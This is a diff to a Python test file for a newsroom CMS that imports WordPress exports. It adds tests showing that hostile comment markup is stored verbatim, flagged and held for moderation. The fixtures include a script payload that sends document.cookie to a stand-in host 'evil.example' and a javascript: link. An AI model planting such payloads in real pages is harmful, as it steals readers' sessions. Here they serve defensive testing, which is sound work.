@@ -3,6 +3,7 @@ refused in one line, and the real exports of the shared corpus give the numbers 
 
 from __future__ import annotations
 
+import html
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -10,6 +11,7 @@ import pytest
 from sqlalchemy import select
 
 from redaction.domain.moderation_rules import RuleSet
+from redaction.domain.untrusted import is_dangerous
 from redaction.render.blocks import render_body
 from redaction.services.articles.editing import get_article_in
 from redaction.services.exchange.importing import ImportRefusedError, import_files, importer_for
@@ -69,7 +71,9 @@ def test_comments_are_threaded_even_when_the_parent_comes_later(db: Database) ->
     found = comments(db)
     assert found["31"].parent_id == found["30"].id
     assert found["32"].parent_id is None  # its parent 999 is not in the file
-    assert found["30"].body == "Merci pour cet article.\nMon père était patron pêcheur."
+    # Kept as the site stored it; search and the word rules read the text a reader saw.
+    assert found["30"].body == "Merci pour cet article.<br />Mon père était patron pêcheur."
+    assert found["30"].search_text == "Merci pour cet article.\nMon père était patron pêcheur."
     assert (found["30"].author_name, found["30"].author_email) == ("Anne Le Bras", "anne@example.fr")
     assert (found["30"].author_url, found["30"].author_ip) == ("http://anne.example", "192.0.2.30")
     assert found["30"].created_at == datetime(2010, 3, 15, 8, 40, tzinfo=UTC)
@@ -290,3 +294,39 @@ def test_wordpress_text_that_looks_like_markdown_blocks_stays_text(db: Database,
     assert "<p>#dowork: la campagne continue.</p>" in page
     assert "<p>1. Premier point du débat</p>" in page
     assert "- deux poissonniers</p>" in page
+
+
+def _with_comment(tmp_path: Path, content: str) -> Path:
+    """The 1.0 fixture with comment 30 pending and its text replaced by ``content`` (as
+    WordPress exports it)."""
+    text = WXR_10.read_text(encoding="utf-8").replace(
+        "Merci pour cet article.&lt;br /&gt;Mon père était patron pêcheur.</wp:comment_content>\n"
+        "\t\t\t<wp:comment_approved>1<",
+        f"{html.escape(content)}</wp:comment_content>\n\t\t\t<wp:comment_approved>0<",
+        1,
+    )
+    assert html.escape(content) in text
+    path = tmp_path / "hostile.xml"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def test_a_script_in_a_comment_is_kept_verbatim_flagged_and_held(db: Database, tmp_path: Path) -> None:
+    content = "<script>document.location='http://evil.example/?c='+document.cookie</script>Bonjour"
+    summary = import_wordpress(db, _with_comment(tmp_path, content))
+    comment = comments(db)["30"]
+    assert comment.body == content  # the moderator sees the attack
+    assert comment.search_text == " Bonjour"  # search sees what a reader would
+    assert is_dangerous(comment.text_flags or 0)
+    assert comment.reason == "held: dangerous markup" and comment.status == "pending"
+    assert summary.held >= 1
+
+
+def test_a_javascript_link_keeps_its_address(db: Database, tmp_path: Path) -> None:
+    content = '<a href="javascript:alert(1)">clique ici</a>'
+    save_rules(db, RuleSet(dangerous_markup="spam"))
+    import_wordpress(db, _with_comment(tmp_path, content))
+    comment = comments(db)["30"]
+    assert comment.body == content
+    assert comment.search_text == "clique ici"
+    assert comment.status == "spam" and comment.reason == "spam: dangerous markup"
